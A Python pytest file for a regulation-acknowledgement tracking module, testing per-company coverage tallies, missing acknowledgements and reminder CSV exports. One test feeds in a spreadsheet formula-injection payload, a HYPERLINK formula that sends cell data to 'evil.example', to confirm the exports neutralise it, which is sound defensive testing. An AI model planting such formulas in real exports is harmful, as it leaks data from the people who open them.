from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import date

import pytest
import sqlalchemy as sa

from governance.errors import GovernanceError
from governance.promulgation import coverage
from governance.promulgation.schema import people
from governance.promulgation.store import Store
from tests.promulgation import works as p


@pytest.fixture
def acknowledged(store: Store) -> Store:
    store.replace_roster(p.ROSTER)
    catalog = p.catalog()
    # Alice read the amended text in Japanese (still valid after the editorial correction); Carol read
    # the group's regulation but not her company's own.
    p.acknowledge(store, p.ALICE.person, catalog.resolve(p.JA_DIGEST, p.TODAY))
    p.acknowledge(store, p.CAROL.person, catalog.resolve(p.EDITORIAL_DIGEST, p.TODAY))
    return store


def test_coverage_per_company_and_regulation(acknowledged: Store) -> None:
    lines = coverage.summary(acknowledged, p.catalog(), p.TODAY)
    assert [
        (line.company, line.regulation, line.required, line.acknowledged, line.since) for line in lines
    ] == [
        ("iij", "bribery-prevention", 2, 1, date(2026, 10, 1)),
        ("iij-engineering", "bribery-prevention", 1, 1, date(2026, 10, 1)),
        ("iij-engineering", "iij-engineering/remote-work", 1, 0, date(2026, 4, 1)),
    ]
    missing = list(coverage.missing(acknowledged, p.catalog(), p.TODAY))
    # Bob joined after the version came into force: he owes it from the day he joined.
    assert [(m.person, m.regulation, m.since) for m in missing] == [
        ("bob@iij.example", "bribery-prevention", date(2027, 1, 10)),
        ("carol@eng.example", "iij-engineering/remote-work", date(2026, 4, 1)),
    ]


def test_a_version_that_needs_a_new_acknowledgement_outdates_the_earlier_ones(acknowledged: Store) -> None:
    strict = p.catalog(editorial_needs_acknowledgement=True)
    lines = coverage.summary(acknowledged, strict, p.TODAY, company="iij")
    # Alice's acknowledgement of the amended text is outdated: the corrected one needs a new one.
    assert [(line.regulation, line.acknowledged, line.since) for line in lines] == [
        ("bribery-prevention", 0, date(2026, 11, 1))
    ]


def test_the_reminders_csv(acknowledged: Store) -> None:
    text = "".join(coverage.missing_csv(coverage.missing(acknowledged, p.catalog(), p.TODAY, company="iij")))
    assert text == (
        "company,regulation,person,name,email,since\n"
        "iij,bribery-prevention,bob@iij.example,Bob Baba,bob.baba@iij.example,2027-01-10\n"
    )


def test_no_cell_of_either_csv_is_run_as_a_formula(store: Store) -> None:
    # Written straight into the database (as anyone who can write to it may), past the roster's checks:
    # each export is opened in a spreadsheet, which would run these cells as formulas (OWASP's rule).
    formula = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    with store.engine.begin() as connection:
        connection.execute(
            sa.insert(people),
            [{"person": "@SUM(1+1)", "name": "-2+3", "company": formula, "email": "+1@x.example"}],
        )
    summary = list(
        csv.reader(io.StringIO(coverage.summary_csv(coverage.summary(store, p.catalog(), p.TODAY))))
    )
    assert summary[1][:2] == ["'" + formula, "bribery-prevention"]
    missing = list(
        csv.reader(io.StringIO("".join(coverage.missing_csv(coverage.missing(store, p.catalog(), p.TODAY)))))
    )
    assert missing[1] == [
        "'" + formula,
        "bribery-prevention",
        "'@SUM(1+1)",
        "'-2+3",
        "'+1@x.example",
        "2026-10-01",
    ]
    # A cell is made inert by its first character only: one that merely contains them is left as it is.
    assert coverage.spreadsheet_cell("a=b") == "a=b"
    assert [coverage.spreadsheet_cell(c + "1") for c in "=+-@\t\r"] == ["'" + c + "1" for c in "=+-@\t\r"]


def test_an_unknown_company(acknowledged: Store) -> None:
    with pytest.raises(
        GovernanceError, match="unknown company 'acme'; the roster's companies are: iij, iij-engineering"
    ):
        coverage.summary(acknowledged, p.catalog(), p.TODAY, company="acme")


def test_the_tallies_follow_each_acknowledgement_and_the_roster(store: Store) -> None:
    strict = p.catalog(editorial_needs_acknowledgement=True)  # one version counts: read from the tallies
    store.replace_roster(p.ROSTER)
    for person in (p.ALICE, p.BOB):
        p.acknowledge(store, person.person, strict.resolve(p.EDITORIAL_DIGEST, p.TODAY))
    counts = [
        (line.company, line.acknowledged, line.required) for line in coverage.summary(store, strict, p.TODAY)
    ]
    assert counts[:2] == [("iij", 2, 2), ("iij-engineering", 0, 1)]
    # Bob moves to IIJ Engineering: his acknowledgement counts there from the next import on.
    store.replace_roster([p.ALICE, replace(p.BOB, company="iij-engineering"), p.CAROL])
    counts = [
        (line.company, line.acknowledged, line.required) for line in coverage.summary(store, strict, p.TODAY)
    ]
    assert counts[:2] == [("iij", 1, 1), ("iij-engineering", 1, 2)]
    # The same, counted person by person (as for a past day), agrees.
    exact = coverage.summary(store, strict, p.TODAY, acknowledged_before="9999")
    assert [(line.company, line.acknowledged) for line in exact][:2] == [("iij", 1), ("iij-engineering", 1)]
